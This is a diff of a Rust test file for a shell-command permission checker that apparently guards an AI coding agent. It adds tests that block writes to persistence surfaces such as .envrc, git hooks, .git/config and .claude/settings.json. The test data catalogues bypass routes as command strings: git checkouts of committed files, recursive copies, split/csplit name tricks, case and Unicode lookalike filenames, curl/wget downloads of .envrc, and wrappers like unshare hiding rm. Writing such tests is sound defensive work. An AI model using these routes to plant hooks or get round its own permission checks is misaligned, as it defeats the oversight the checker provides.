@@ -1369,16 +1369,18 @@ fn git_subcommands_that_run_the_commands_they_name_are_seen_through() {
         "git worktree add /tmp/w",
         "git worktree add -b topic ../w",
     ]);
+    // Inside the roots they still write the work tree from git's objects (round 5): asked
+    // whatever the rules say, like the rebases and the bisection below.
     g.all(
-        Action::Allow,
+        Action::Ask,
         &[
             "git clone https://example.org/x.git d",
             "git worktree add wt",
-            "git worktree list",
         ],
     );
+    g.all(Action::Allow, &["git worktree list"]);
     f.all(
-        Action::Allow,
+        Action::Ask,
         &[
             "git rebase -x 'git status' HEAD~1",
             "git rebase -x ls HEAD~2",
@@ -1386,6 +1388,11 @@ fn git_subcommands_that_run_the_commands_they_name_are_seen_through() {
             "git rebase -s ours main",
             "git bisect run ls",
             "git bisect start",
+        ],
+    );
+    f.all(
+        Action::Allow,
+        &[
             "git submodule foreach --recursive 'git status'",
             "git config --get user.name",
             "git config user.name",
@@ -1525,8 +1532,6 @@ action = "allow"
             "cp a.txt b.txt",
             "cp x/a.rs sub/",
             "cp x/*.rs sub/",
-            "cp -r x sub",
-            "cp -a x/. sub",
             "mv a.txt sub/",
             "ln -s ../x/a.rs sub/a.rs",
             "tar tf a.tar",
@@ -1539,7 +1544,6 @@ action = "allow"
             "patch a.c < p.diff",
             "git apply --check p.diff",
             "git apply --stat p.diff",
-            "rsync -a x/ sub/",
         ],
     );
     // The real programs plant, and the real git runs the planted hook.
@@ -1991,4 +1995,493 @@ fn git_mv_writes_what_mv_would() {
         bundle.exists(),
         "the real git bundle create did not write the file"
     );
+}
+
+// ---- round 5 (issue 21): writes the line does not name ---------------------------------
+
+/// Git commands that write the work tree from git's objects write names the line does not
+/// show: a committed `.envrc` (`git apply --cached p && git commit` put it there) is checked
+/// out by `git checkout`, `restore`, `merge`, `stash`, `reset --hard`, … whatever the rules say
+/// of them. Only forms shown with the real git to leave the work tree alone stay allowed:
+/// `git switch -c NEW` without a start point (git skips the work tree when HEAD stays;
+/// `git checkout -b NEW` does not, and in a sparse repository whose patterns changed it writes
+/// the files they now include), `git restore --staged` (the index), `git reset` without
+/// `--hard`/`--merge`/`--keep`, `git stash list`/`show`.
+#[test]
+fn git_commands_that_write_the_work_tree_from_objects_ask() {
+    let rules =
+        "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"git\"\naction = \"allow\"\n";
+    let f = fixture(rules, "deny");
+    f.never_allowed(&[
+        "git checkout -- .envrc",
+        "git checkout .",
+        "git checkout main",
+        "git checkout",
+        "git checkout -b new",
+        "git checkout -B new",
+        "git checkout --orphan new",
+        "git checkout -b new main",
+        "git -C sub checkout main",
+        "git restore .envrc",
+        "git restore -s HEAD~1 .",
+        "git restore --staged --worktree .envrc",
+        "git restore -SW .envrc",
+        "git restore --staged --wor .envrc",
+        "git restore --staged \"$x\" .envrc",
+        "git switch main",
+        "git switch -c new main",
+        "git switch -c new HEAD",
+        "git switch --discard-changes main",
+        "git switch -c new -m",
+        "git merge other",
+        "git merge --ff-only origin/main",
+        "git pull",
+        "git pull --rebase",
+        "git stash",
+        "git stash push",
+        "git stash -u",
+        "git stash pop",
+        "git stash apply",
+        "git stash branch b",
+        "git reset --hard",
+        "git reset --har HEAD~1",
+        "git reset HEAD~1 --hard",
+        "git reset --merge",
+        "git reset --keep HEAD~1",
+        "git reset --recurse-submodules HEAD",
+        "git reset \"$mode\"",
+        "git cherry-pick abc123",
+        "git cherry-pick -n abc123",
+        "git revert HEAD",
+        "git rebase main",
+        "git rebase --abort",
+        "git read-tree -u -m HEAD",
+        "git read-tree --reset -u HEAD",
+        "git checkout-index -a",
+        "git checkout-index -f -- .envrc",
+        "git worktree add ../wt",
+        "git worktree add wt main",
+        "git clone /tmp/r",
+        "git clone /tmp/r sub/r",
+        "git clone --bare /tmp/r r.git",
+        "git sparse-checkout set '/*'",
+        "git sparse-checkout reapply",
+        "git sparse-checkout disable",
+        "git submodule update --init",
+        "git submodule init",
+        "git bisect start HEAD HEAD~5",
+        "git bisect good",
+        "git bisect reset",
+        "git subtree add --prefix=x /tmp/r main",
+        "git filter-branch --index-filter true HEAD",
+    ]);
+    f.all(
+        Action::Allow,
+        &[
+            "git status",
+            "git log -1",
+            "git diff",
+            "git add .",
+            "git commit -m x",
+            "git branch new",
+            "git switch -c new",
+            "git switch -q -c new",
+            "git switch --create=new",
+            "git switch -C new",
+            "git restore --staged .envrc",
+            "git restore -S a.rs",
+            "git reset",
+            "git reset -q HEAD a.rs",
+            "git reset --soft HEAD~1",
+            "git reset --mixed HEAD~1",
+            "git stash list",
+            "git stash show -p",
+            "git sparse-checkout list",
+            "git submodule status",
+            "git worktree list",
+            "git bisect log",
+        ],
+    );
+    // The real git: a sparse repository whose patterns now include `.envrc` (which a commit
+    // holds but the work tree lacks) gets it from `git checkout -b NEW`, `git checkout`,
+    // `git stash`; `git switch -c NEW`, `git reset`, `git restore --staged` leave it out.
+    let fresh = || {
+        let dir = tempfile::tempdir().unwrap();
+        let git = |args: &[&str]| {
+            std::process::Command::new("git")
+                .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
+                .args(args)
+                .current_dir(dir.path())
+                .env("GIT_CONFIG_NOSYSTEM", "1")
+                .env("HOME", dir.path())
+                .stdout(std::process::Stdio::null())
+                .stderr(std::process::Stdio::null())
+                .status()
+                .expect("git is needed for this test (Debian package `git`)")
+        };
+        assert!(git(&["init", "-q", "."]).success());
+        std::fs::write(dir.path().join(".envrc"), "x\n").unwrap();
+        std::fs::write(dir.path().join("a"), "a\n").unwrap();
+        assert!(git(&["add", "."]).success());
+        assert!(git(&["commit", "-q", "-m", "a"]).success());
+        assert!(git(&["sparse-checkout", "set", "--no-cone", "/a"]).success());
+        assert!(!dir.path().join(".envrc").exists());
+        std::fs::write(dir.path().join(".git/info/sparse-checkout"), "/*\n").unwrap();
+        std::fs::write(dir.path().join("a"), "b\n").unwrap();
+        dir
+    };
+    for (line, writes) in [
+        ("git checkout -q -b new", true),
+        ("git checkout -q", true),
+        ("git stash -q", true),
+        ("git switch -q -c new", false),
+        ("git switch -q -C new", false),
+        ("git reset -q", false),
+        ("git restore --staged a", false),
+    ] {
+        let dir = fresh();
+        let env = [("GIT_CONFIG_NOSYSTEM", "1"), ("HOME", "/nonexistent")];
+        assert!(!bash_creates_pwned(
+            dir.path(),
+            &format!(
+                "git -c user.name=t -c user.email=t@example.org {}",
+                &line[4..]
+            ),
+            &env
+        ));
+        assert_eq!(
+            dir.path().join(".envrc").exists(),
+            writes,
+            "{line}: the real git's work-tree write is not what the analysis assumes"
+        );
+    }
+}
+
+/// A recursive copy of a tree *inside* the roots writes names the line does not show too:
+/// `cp -r x/. .` makes `x/.envrc` (or a fixture's `x/.git/hooks/post-checkout`) the project's
+/// own. It was allowed because its source lay in the roots; the real cp plants.
+#[test]
+fn a_recursive_copy_inside_the_roots_asks() {
+    let rules = "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"cp\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"rsync\"\naction = \"allow\"\n";
+    let f = fixture(rules, "deny");
+    std::fs::create_dir_all(f.ws.join("x")).unwrap();
+    f.never_allowed(&[
+        "cp -r x/. .",
+        "cp -a x/* .",
+        "cp -R x sub",
+        "cp -r x sub",
+        "cp -a x/. sub",
+        "cp --archive x/. .",
+        "cp --rec x/. .",
+        "cp -rt . x/.",
+        "rsync -a x/ .",
+        "rsync -r x/ sub/",
+        "rsync -a x/ sub/",
+        "rsync --archive x/ .",
+        "rsync -d x/ .",
+        "rsync --dirs x/ .",
+        "rsync --files-from=list . sub/",
+    ]);
+    f.all(
+        Action::Allow,
+        &["cp a.txt b.txt", "cp x/a.rs sub/", "rsync a.txt sub/"],
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path();
+    // (rsync is not among the test dependencies; its `x/` means x's entries, as documented.)
+    for line in ["cp -r x/. .", "cp -a x/. .", "cp -R x/. ."] {
+        let _ = std::fs::remove_file(ws.join(".envrc"));
+        std::fs::create_dir_all(ws.join("x")).unwrap();
+        std::fs::write(ws.join("x/.envrc"), "x\n").unwrap();
+        assert!(!bash_creates_pwned(ws, line, &[]));
+        assert!(
+            ws.join(".envrc").exists(),
+            "{line}: the real program did not write ./.envrc"
+        );
+    }
+}
+
+/// Programs that write the files they name were not in the option tables, so a rule on them
+/// (or a default allow) allowed a write of the persistence surface: `touch .envrc`, `chmod +x
+/// .git/hooks/pre-commit`, `truncate -s0 .git/config`, `mkdir .claude`, `uniq x .envrc`,
+/// `shuf -o .envrc`, a split's generated names (`split -a1 x .git/hooks/pre-commi` makes
+/// `pre-commit` as its 20th piece; `csplit -b 'rc%.0d'` renders the number as nothing). And a
+/// table that took a flag for an option with an argument lost the destination: `cp -Z x .envrc`
+/// (`-Z` is a flag of cp and install) read `x` as `-Z`'s argument and judged no write.
+/// `install --strip-program=PROG` runs PROG.
+#[test]
+fn every_program_that_writes_the_files_it_names_is_in_the_table() {
+    let f = allow_all();
+    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
+    std::fs::create_dir_all(f.ws.join(".claude")).unwrap();
+    f.never_allowed(&[
+        "touch .envrc",
+        "touch -r x .envrc",
+        "touch -d now .envrc",
+        "touch --date=now .envrc",
+        "touch --ref x .envrc",
+        "touch -c .git/hooks/pre-commit",
+        "touch /tmp/outside",
+        "mkdir .claude",
+        "mkdir -p .git/hooks/x",
+        "mkdir -m 777 .vscode",
+        "mkdir /tmp/outside",
+        "chmod +x .git/hooks/pre-commit",
+        "chmod --reference=x .git/hooks/pre-commit",
+        "chmod -x .git/hooks/pre-commit",
+        "chmod 777 /tmp/outside",
+        "chmod -R +x .",
+        "chmod --recursive u+x sub",
+        "chown -R me sub",
+        "chgrp root .envrc",
+        "chown me:me .git/config",
+        "truncate -s 0 .git/config",
+        "truncate --size=0 .envrc",
+        "truncate -r x .envrc",
+        "mkfifo .envrc",
+        "mknod .envrc p",
+        "mktemp -p .git/hooks preXXX",
+        "mktemp --tmpdir=/tmp/e xXXX",
+        "mktemp /tmp/e/x.XXXX",
+        "uniq x .envrc",
+        "uniq -c x /tmp/out",
+        "shuf -o .envrc x",
+        "shuf --output=.envrc x",
+        "shuf --out=.envrc x",
+        "shuf -eo.envrc a b",
+        "split -a1 x .git/hooks/pre-commi",
+        "split x .envr",
+        "split -b 1 --additional-suffix=rc x .env",
+        "split x /tmp/out",
+        "csplit -f .env -b 'rc%.0d' x 1",
+        "csplit --prefix=.claude/settings.jso x 1",
+        "csplit -f /tmp/out x 1",
+        "cp -Z x .envrc",
+        "install -Z x .envrc",
+        "install -s --strip-program=/tmp/e/x x y",
+        "nice touch .envrc",
+        "timeout 5 touch .envrc",
+        "stdbuf -o0 touch .envrc",
+        "find . -exec touch {} +",
+        "xargs touch < list",
+        "xargs chmod +x < list",
+    ]);
+    f.all(
+        Action::Allow,
+        &[
+            "touch a.txt",
+            "touch -d now sub/a.txt",
+            "mkdir -p build/out",
+            "chmod +x script.sh",
+            "chmod 644 a.txt",
+            "truncate -s 0 log.txt",
+            "mktemp",
+            "mktemp -d",
+            "mktemp -t x.XXXX",
+            "mktemp -p . tmp.XXXX",
+            "uniq x",
+            "uniq x out.txt",
+            "shuf -o out.txt x",
+            "split -l 100 x part.",
+            "csplit -f part x 1",
+            "cp -Z x y",
+            "install -m 755 x bin/x",
+        ],
+    );
+    // The real programs.
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path();
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::write(
+        ws.join("x"),
+        (1..=30).map(|n| format!("{n}\n")).collect::<String>(),
+    )
+    .unwrap();
+    for (line, made) in [
+        ("touch .envrc", ".envrc"),
+        ("cp -Z x .envrc", ".envrc"),
+        ("uniq x .envrc", ".envrc"),
+        (
+            "split -l1 -a1 x .git/hooks/pre-commi",
+            ".git/hooks/pre-commit",
+        ),
+        ("csplit -s -f .env -b 'rc%.0d' x 2", ".envrc"),
+    ] {
+        let _ = std::fs::remove_file(ws.join(made));
+        assert!(!bash_creates_pwned(ws, line, &[]));
+        assert!(
+            ws.join(made).exists(),
+            "{line}: the real program did not make {made}"
+        );
+    }
+}
+
+/// On a filesystem that ignores case (macOS by default; an ext4 directory with `chattr +F`),
+/// `.ENVRC` is `.envrc` and `.Git/hooks/pre-commit` is the repository's hook: a write of such
+/// a spelling was allowed, the surface being matched as written only.
+#[test]
+fn a_surface_name_in_another_case_is_the_surface() {
+    let f = allow_all();
+    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
+    f.never_allowed(&[
+        "echo x > .ENVRC",
+        "echo x > .EnvRc",
+        "cp x .Envrc",
+        "echo x > .Git/hooks/pre-commit",
+        "echo x > .git/HOOKS/pre-commit",
+        "echo x > .GIT/CONFIG",
+        "echo x > .CLAUDE/settings.json",
+        "echo x > .vscode/TASKS.JSON",
+        "echo x > sub/.Envrc",
+        "echo x > .mcp.JSON",
+        "echo x > .claude/\u{17f}ettings.json",
+        "echo x > .vscode/tas\u{212a}s.json",
+        "echo x > .env\u{200c}rc",
+    ]);
+    f.all(
+        Action::Allow,
+        &[
+            "echo x > README.md",
+            "echo x > Notes.TXT",
+            "echo x > .ENV.example",
+        ],
+    );
+}
+
+/// A download writes the name its URL ends with (`wget http://h/.envrc`, `curl -O …/.envrc`),
+/// and a recursive or server-named download writes names the line does not show: a `wget` or
+/// `curl` rule allowed each.
+#[test]
+fn a_download_writes_the_name_its_url_ends_with() {
+    let rules = "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"wget\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"curl\"\naction = \"allow\"\n";
+    let f = fixture(rules, "allow");
+    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
+    f.never_allowed(&[
+        "wget http://index.example.org/.envrc",
+        "wget -q http://index.example.org/a/.envrc?x=1",
+        "wget -P .git/hooks http://index.example.org/pre-commit",
+        "wget -P /tmp/e http://index.example.org/x",
+        "wget -r http://index.example.org/",
+        "wget --mirror http://index.example.org/",
+        "wget --recursive http://index.example.org/",
+        "wget --rec http://index.example.org/",
+        "wget -p http://index.example.org/",
+        "wget -x http://index.example.org/a",
+        "wget --content-disposition http://index.example.org/x",
+        "wget --trust-server-names http://index.example.org/x",
+        "wget -i urls.txt",
+        "wget \"$u\"",
+        "curl -O http://index.example.org/.envrc",
+        "curl -sSLO http://index.example.org/a/.envrc",
+        "curl --remote-name http://index.example.org/.envrc",
+        "curl --remote-name-all http://index.example.org/.mcp.json",
+        "curl -OJ http://index.example.org/x",
+        "curl -O --remote-header-name http://index.example.org/x",
+        "curl -o '#1' 'http://index.example.org/{.envrc,x}'",
+        "curl -O 'http://index.example.org/[1-2].envrc'",
+        "curl -O \"$u\"",
+    ]);
+    f.all(
+        Action::Allow,
+        &[
+            "wget http://index.example.org/a.tar.gz",
+            "wget -q -O out.html http://index.example.org/",
+            "wget -P dl http://index.example.org/a.tar.gz",
+            "curl -s http://index.example.org/x",
+            "curl -o out.json http://index.example.org/x",
+            "curl -sSLO http://index.example.org/a.tar.gz",
+        ],
+    );
+}
+
+/// More programs that write a file they name, or extract names the line does not show, which
+/// a rule on them allowed: `sponge .envrc`, `xxd -r x .envrc`, `iconv -o .envrc`, `uudecode -o`,
+/// `gpg -o`, `msgfmt -o`, `base64 -o` (BSD), and the extractors `7z x`, `ar x`, `cpio -i`,
+/// `pax -r`, `jar x`.
+#[test]
+fn more_writers_and_extractors_are_judged() {
+    let f = allow_all();
+    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
+    f.never_allowed(&[
+        "cat x | sponge .envrc",
+        "sponge -a .git/hooks/pre-commit < x",
+        "xxd -r x .envrc",
+        "xxd -r -p x .git/hooks/pre-commit",
+        "iconv -f utf8 -t ascii -o .envrc x",
+        "iconv --output=.envrc x",
+        "uudecode -o .envrc x",
+        "gpg -o .envrc -d x",
+        "gpg --output .envrc --decrypt x",
+        "msgfmt -o .envrc x.po",
+        "base64 -d x -o .envrc",
+        "7z x a.7z",
+        "7za e a.7z",
+        "ar x a.a",
+        "ar -x a.a",
+        "cpio -i < a.cpio",
+        "cpio -idm < a.cpio",
+        "cpio -p sub < list",
+        "pax -r < a.pax",
+        "jar xf a.jar",
+        "jar -x -f a.jar",
+        "jar --extract --file a.jar",
+        "pax -O -r < a.pax",
+        "cpio -o -O .envrc < list",
+        "xxd -C x .envrc",
+    ]);
+    f.all(
+        Action::Allow,
+        &[
+            "cat x | sponge out.txt",
+            "xxd x",
+            "xxd -r x out.bin",
+            "iconv -f utf8 -t ascii x",
+            "gpg --list-keys",
+            "7z l a.7z",
+            "ar t a.a",
+            "cpio -t < a.cpio",
+            "pax < a.pax",
+            "jar tf a.jar",
+        ],
+    );
+}
+
+/// Programs that run the command they are given, missing from the wrapper table: the command
+/// was not found, so a `rm` deny rule did not reach `unshare rm x`, and where the default
+/// allows, the line was allowed.
+#[test]
+fn programs_that_run_their_argv_are_seen_through() {
+    let f = allow_all();
+    f.all(
+        Action::Deny,
+        &[
+            "unshare rm x",
+            "unshare -r -n rm x",
+            "unshare --map-root-user --net -- rm x",
+            "unshare -w /tmp rm x",
+            "nsenter -t 1 -m rm x",
+            "nsenter --target=1 --mount rm x",
+            "setpriv --reuid 1000 --regid 1000 --init-groups rm x",
+            "setpriv --no-new-privs rm x",
+            "prlimit --nofile=10 rm x",
+            "numactl -N 0 rm x",
+            "numactl --interleave=all rm x",
+            "valgrind rm x",
+            "valgrind --tool=massif -q rm x",
+            "xvfb-run -a rm x",
+            "xvfb-run -s '-screen 0 1x1x8' rm x",
+            "dbus-run-session -- rm x",
+            "chronic rm x",
+            "chronic -e rm x",
+        ],
+    );
+    f.never_allowed(&["valgrind --log-file=.envrc ls", "xvfb-run -e .envrc ls"]);
+    // Each changes what its command may do or see (namespaces, credentials, a display), or
+    // runs a program of its own: decided by a rule naming it, not by `ls`'s.
+    review().never_allowed(&[
+        "unshare ls",
+        "setpriv --reuid 0 ls",
+        "valgrind ls",
+        "dbus-run-session --dbus-daemon=/tmp/e/x -- ls",
+    ]);
 }
